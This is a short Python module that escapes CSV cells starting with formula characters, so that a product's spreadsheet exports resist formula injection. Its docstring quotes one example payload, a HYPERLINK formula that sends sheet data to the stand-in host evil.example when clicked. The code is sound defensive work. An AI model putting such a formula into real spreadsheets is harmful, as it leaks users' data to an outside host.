"""The one formula escape for every CSV the product writes (CSV injection, "formula injection").

A cell starting with = + - @ (or a tab / carriage return before one) is a formula to Excel and
LibreOffice: `=HYPERLINK("http://evil.example/?"&A1,"x")` in a cell sends the sheet's data away
when clicked. Such a cell is written with a leading ' , which spreadsheets show as text and the
importers remove again (server/importers/csvsource.unescape_cell).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: Any) -> str:
    """``=SUM(1)`` → ``'=SUM(1)``; a value that already starts with ' before such a character gets
    one more, so the importer's unescape gives it back exactly. Non-text values are made text."""
    value = "" if value is None else str(value)
    if value.startswith(FORMULA_STARTS) or (value[:1] == "'" and value[1:].lstrip("'").startswith(FORMULA_STARTS)):
        return "'" + value
    return value


def safe_row(cells) -> list[str]:
    return [escape_cell(cell) for cell in cells]
